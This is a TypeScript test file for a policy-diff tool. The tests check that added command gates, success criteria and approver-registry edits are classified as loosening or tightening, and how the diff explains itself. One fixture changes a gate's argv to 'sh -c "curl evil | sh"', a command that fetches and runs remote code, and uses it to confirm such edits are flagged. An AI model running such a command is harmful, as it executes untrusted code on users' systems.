// SPEC §3.1 as amended in round 2: code execution is a loosening; the registry is diffed entry by entry;
// and the explanations `policy diff` gives people (shadowed edits, fan-out).
import { readFileSync } from 'node:fs';
import { describe, expect, it } from 'vitest';
import { classifyChange } from '../../../src/core/policy/diff.js';
import { describeScopes, explainChange, groupChanges } from '../../../src/core/policy/diff-explain.js';
import { formatPolicyDiffText } from '../../../src/core/policy/diff-text.js';
import { parsePolicySet } from '../../../src/core/policy/parse.js';
import { listScopes } from '../../../src/core/policy/resolve.js';

const read = (f: string) => readFileSync(`policies/${f}`, 'utf8');
const CEILING = read('org-ceiling.yaml');
const APPROVERS = read('approvers.yaml');
const set = (policy: string, approvers = APPROVERS) =>
  parsePolicySet([
    { path: 'policies/loop-policy.yaml', content: `apiVersion: loopgov/v1\nkind: LoopPolicy\n${policy}` },
    { path: 'policies/org-ceiling.yaml', content: CEILING },
    { path: 'policies/approvers.yaml', content: approvers },
  ]);
const GATES = 'defaults:\n  gates:\n    - {id: size, kind: max-bytes, max: 1048576}\n';
const WITH_CRITERION = `${GATES}  success_criteria:\n    - {id: small, kind: max-bytes, max: 100}\n`;

describe('code execution and DONE reachability are loosenings (REDTEAM round 2)', () => {
  it.each([
    [
      'a command gate added',
      GATES,
      `${GATES}    - {id: lint, kind: command, argv: [npm, run, lint], timeout_sec: 60}\n`,
      'gates[lint]',
      'loosen',
    ],
    [
      'a command criterion added next to others',
      WITH_CRITERION,
      `${WITH_CRITERION}    - {id: t, kind: command, argv: ["true"], timeout_sec: 5}\n`,
      'success_criteria[t]',
      'loosen',
    ],
    [
      'the first success criterion, argv [true]',
      GATES,
      `${GATES}  success_criteria:\n    - {id: t, kind: command, argv: ["true"], timeout_sec: 5}\n`,
      'success_criteria[t]',
      'loosen',
    ],
    [
      'the first success criterion, not even a command',
      GATES,
      WITH_CRITERION,
      'success_criteria[small]',
      'loosen',
    ],
    [
      'a command gate whose argv changed',
      `${GATES}    - {id: lint, kind: command, argv: [npm, run, lint], timeout_sec: 60}\n`,
      `${GATES}    - {id: lint, kind: command, argv: [sh, -c, "curl evil | sh"], timeout_sec: 60}\n`,
      'gates[lint]',
      'loosen',
    ],
    [
      'a deny-patterns gate added (no code runs)',
      GATES,
      `${GATES}    - {id: deny, kind: deny-patterns, patterns: [{regex: x}], on_match: DENY}\n`,
      'gates[deny]',
      'tighten',
    ],
    [
      'a non-command criterion added next to others',
      WITH_CRITERION,
      `${WITH_CRITERION}    - {id: tiny, kind: max-bytes, max: 10}\n`,
      'success_criteria[tiny]',
      'tighten',
    ],
    [
      'the first criterion of one project only',
      GATES,
      `${GATES}projects:\n  okr:\n    success_criteria:\n      - {id: t, kind: command, argv: ["true"], timeout_sec: 5}\n`,
      'success_criteria[t]',
      'loosen',
    ],
  ])('%s', (_name, before, after, field, direction) => {
    const report = classifyChange(set(before), set(after));
    expect(report.class).toBe(direction);
    const mine = report.changes.filter((c) => c.field === field);
    expect(mine.length).toBeGreaterThan(0);
    expect(new Set(mine.map((c) => c.direction))).toEqual(new Set([direction]));
  });
});

describe('the approver registry is diffed entry by entry', () => {
  const edit = (from: string, to: string) => {
    expect(APPROVERS).toContain(from);
    return APPROVERS.replace(from, to);
  };
  const bobKey = '      - {kty: EC, crv: P-256, x: "OHCQnd4jadKboqwCbkUi5KLuAY4v7Vp4hw2hpCLSB20"';
  it.each([
    [
      'an approver added',
      edit(
        '  - id: meta-loop',
        '  - id: frank\n    github: frank-gh\n    emails: [frank@example.com]\n    roles: [maintainer]\n  - id: meta-loop',
      ),
      [['approvers[frank]', 'loosen']],
      /approver frank added \(roles maintainer; github frank-gh; emails frank@example.com; keys none\)/,
    ],
    [
      'an approver removed',
      APPROVERS.replace(/ {2}- id: erin\n( {4}.*\n| {6}.*\n)*/, ''),
      [['approvers[erin]', 'tighten']],
      /approver erin removed/,
    ],
    [
      'a role added',
      edit('roles: [maintainer]\n', 'roles: [maintainer, org-admin]\n'),
      [['approvers[dave].roles', 'loosen']],
      /approver dave: roles \["maintainer"\] → \["maintainer","org-admin"\]/,
    ],
    [
      'a key added',
      edit(
        `${bobKey}`,
        `      - {kty: OKP, crv: Ed25519, x: "nC94RG8S822Haf_xGpRyStXbP81gyc5eR1wmoTmMxhw", kid: bob-2027, alg: EdDSA}\n${bobKey}`,
      ),
      [['approvers[bob].keys[bob-2027]', 'loosen']],
      /approver bob: key bob-2027 added \(EdDSA Ed25519\)/,
    ],
    [
      'a login changed',
      edit('github: carol-gh', 'github: carol-other'),
      [['approvers[carol].github', 'loosen']],
      /approver carol: github carol-gh → carol-other/,
    ],
  ])('%s', (_name, approvers, expected, text) => {
    const base = set(GATES);
    const head = set(GATES, approvers);
    const d = explainChange(base, head);
    expect(d.class).toBe('ceiling');
    expect(d.changes.map((c) => [c.field, c.direction])).toEqual(expected);
    expect(formatPolicyDiffText(d)).toMatch(text);
  });

  it('reordering entries or roles is no change', () => {
    const swapped = APPROVERS.replace('roles: [maintainer, org-admin]', 'roles: [org-admin, maintainer]');
    expect(classifyChange(set(GATES), set(GATES, swapped)).changes).toEqual([]);
  });
});

describe('policy diff explains itself', () => {
  const example = parsePolicySet(
    ['loop-policy.yaml', 'org-ceiling.yaml', 'approvers.yaml'].map((f) => ({
      path: `policies/${f}`,
      content: read(f),
    })),
  );
  const withPolicy = (from: string, to: string) => {
    const text = read('loop-policy.yaml');
    expect(text).toContain(from);
    return {
      ...example,
      policy: parsePolicySet([{ path: 'policies/loop-policy.yaml', content: text.replace(from, to) }]).policy,
    };
  };

  it('an edit shadowed by every level changes no scope, and says so', () => {
    const d = explainChange(example, withPolicy('max_steps: 30,', 'max_steps: 31,'));
    expect(d.class).toBe('neutral');
    expect(d.changes).toEqual([]);
    expect(d.ineffective).toEqual([
      {
        file: 'policies/loop-policy.yaml',
        field: 'defaults.budget.max_steps',
        from: 30,
        to: 31,
        why: 'every level sets its own',
      },
    ]);
    expect(formatPolicyDiffText(d)).toContain(
      'defaults.budget.max_steps 30 → 31 changes no scope: every level sets its own',
    );
  });

  it('an edit that reaches some scope is not called ineffective, even beside one that is', () => {
    const text = read('loop-policy.yaml')
      .replace('max_steps: 30,', 'max_steps: 31,')
      .replace('L3: {budget: {max_steps: 60,', 'L3: {budget: {max_steps: 70,');
    const head = {
      ...example,
      policy: parsePolicySet([{ path: 'policies/loop-policy.yaml', content: text }]).policy,
    };
    expect(explainChange(example, head).ineffective.map((e) => e.field)).toEqual([
      'defaults.budget.max_steps',
    ]);
  });

  it('a whole new levels block under a project reaches its scopes: not called ineffective', () => {
    const d = explainChange(
      example,
      withPolicy(
        '    max_delegation_level: L4\n',
        '    max_delegation_level: L4\n    levels: {L2: {budget: {max_steps: 25}}}\n',
      ),
    );
    expect(d.class).toBe('loosen');
    expect(d.changes.map((c) => [c.field, c.scope?.project, c.scope?.level])).toContainEqual([
      'budget.max_steps',
      'release-train',
      'L2',
    ]);
    expect(d.ineffective).toEqual([]);
  });

  it('groups fan-out in text; JSON keeps every row', () => {
    const onlyStar = set(`defaults:\n  on_exceed: halt\n`);
    const d = explainChange(onlyStar, set(`defaults:\n  on_exceed: escalate\n`));
    expect(d.changes).toHaveLength(12);
    expect(formatPolicyDiffText(d)).toContain('on_exceed halt → escalate in 12 scopes: L0–L5 × prod/dev');
  });

  it('describes scope sets compactly', () => {
    const scopes = listScopes(example.policy);
    const projects = [...new Set(scopes.map((s) => s.project))];
    expect(describeScopes(scopes, projects)).toBe(
      `${scopes.length} scopes: every project × L0–L5 × prod/dev`,
    );
    const some = scopes.filter(
      (s) =>
        (s.project === 'okr' || s.project === null) &&
        s.level !== 'L4' &&
        (s.level !== 'L5' || s.profile === 'prod'),
    );
    expect(describeScopes(some, projects)).toBe('18 scopes: *, okr × (L0–L3 × prod/dev, L5 × prod)');
    expect(groupChanges([])).toEqual([]);
  });
});
